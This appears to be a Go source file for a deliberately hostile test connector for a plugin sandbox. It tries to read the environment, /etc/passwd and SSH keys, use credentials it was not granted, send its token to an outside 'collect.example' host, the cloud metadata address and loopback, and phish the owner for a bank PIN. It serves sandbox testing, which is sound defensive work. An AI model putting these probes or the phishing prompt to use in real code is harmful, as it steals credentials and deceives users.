// Command nosy is a connector that means no good: it tries to get what it was
// not given, and emits one record for each attempt, with what it got. The demo
// shows the records; a test expects every attempt to have failed.
package main

import (
	"context"
	"errors"
	"fmt"
	"os"
	"strings"

	sallyport "github.com/sallyport-host/sallyport/guest-sdk/go"
)

func main() { sallyport.Main(snoop) }

// attempt is a record.
type attempt struct {
	ID    string `json:"id"`
	Tried string `json:"tried"`
	Got   string `json:"got"`
	// Leaked says that the attempt was worth it.
	Leaked bool `json:"leaked"`
}

// try does one attempt: it returns what it got, and an error when that is
// nothing.
type try func(ctx context.Context, run *sallyport.Run) (string, error)

func snoop(ctx context.Context, run *sallyport.Run) error {
	attempts := sallyport.NewStream(run, "attempts", func(a attempt) sallyport.Key { return sallyport.Key{a.ID} })
	base := run.Option("base_url")
	for _, t := range []struct {
		id, tried string
		do        try
	}{
		{"environment", "read the environment", environment},
		{"arguments", "read the command line", arguments},
		{"file", "read /etc/passwd", file("/etc/passwd")},
		{"home", "read ~/.ssh/id_ed25519", file(os.Getenv("HOME") + "/.ssh/id_ed25519")},
		{"folder", "list the working folder", folder},
		{"write", "write a file", write},
		{"socket", "take a socket", socket},
		{"undeclared", "use a credential it never declared", use("BANK_TOKEN")},
		{"neighbour", "use the password of the contacts connector", use("APP_PASSWORD")},
		{"password", "use a bank password that it declares", use("BANK_PASSWORD")},
		{"elsewhere", "send its token to another origin", send("https://collect.example/", "header")},
		{"metadata", "call the cloud's metadata service", send("http://169.254.169.254/latest/meta-data/", "")},
		{"loopback", "call a service on this machine", send("http://127.0.0.1:22/", "")},
		{"url", "put its token into a URL", send(base+"/?t=", "url")},
		{"body", "put its token into a body", send(base+"/", "body")},
		{"wrong header", "put its token into another header", send(base+"/", "x-header")},
		{"other path", "send its token to a path that is not approved", send(base+"/admin", "header")},
		{"phishing", "ask the owner for their bank password", phish},
	} {
		got, err := t.do(ctx, run)
		a := attempt{ID: t.id, Tried: t.tried, Got: got, Leaked: err == nil}
		if err != nil {
			a.Got = short(err)
		}
		if err := attempts.Emit(a); err != nil {
			return err
		}
	}
	return nil
}

// short is the last part of an error: what the system or the host said.
func short(err error) string {
	var status sallyport.Status
	if errors.As(err, &status) {
		return status.Error()
	}
	if errors.Is(err, errors.ErrUnsupported) {
		return "not there: the host offers no such thing"
	}
	parts := strings.Split(err.Error(), ": ")
	return parts[len(parts)-1]
}

var errNothing = errors.New("nothing: it is empty")

func environment(context.Context, *sallyport.Run) (string, error) {
	if all := os.Environ(); len(all) > 0 {
		return strings.Join(all, " "), nil
	}
	return "", errNothing
}

func arguments(context.Context, *sallyport.Run) (string, error) {
	if len(os.Args) > 0 {
		return strings.Join(os.Args, " "), nil
	}
	return "", errNothing
}

func file(name string) try {
	return func(context.Context, *sallyport.Run) (string, error) {
		b, err := os.ReadFile(name)
		return string(b), err
	}
}

func folder(context.Context, *sallyport.Run) (string, error) {
	entries, err := os.ReadDir(".")
	return fmt.Sprint(entries), err
}

func write(context.Context, *sallyport.Run) (string, error) {
	const name = "nosy.txt"
	return name, os.WriteFile(name, []byte("was here"), 0o600)
}

func use(name string) try {
	return func(_ context.Context, run *sallyport.Run) (string, error) {
		value, err := run.Credential(name)
		return string(value), err
	}
}

// send makes a request to url, its own token at a place.
func send(url, place string) try {
	return func(ctx context.Context, run *sallyport.Run) (string, error) {
		token, err := run.Credential("TOKEN")
		if err != nil {
			return "", fmt.Errorf("no token to send: %w", err)
		}
		req := &sallyport.Request{URL: url, Header: sallyport.Header{}}
		switch place {
		case "header":
			req.Header.Set("Authorization", sallyport.Bearer(token))
		case "x-header":
			req.Header.Set("X-Note", string(token))
		case "url":
			req.URL += string(token)
		case "body":
			req.Method, req.Body = "POST", []byte("token="+string(token))
		}
		resp, err := sallyport.NewClient(run).Do(ctx, req)
		if err != nil {
			return "", err
		}
		return fmt.Sprintf("an answer: %d", resp.StatusCode), resp.Body.Close()
	}
}

func phish(_ context.Context, run *sallyport.Run) (string, error) {
	answer, err := run.Interact(sallyport.Interaction{
		Kind:    "credentials",
		Message: "Your bank needs you to log in again. This is Sallyport asking.",
		Schema: map[string]any{"type": "object", "properties": map[string]any{
			"BANK_PIN": map[string]any{"type": "string"},
		}},
	})
	return fmt.Sprint(answer), err
}
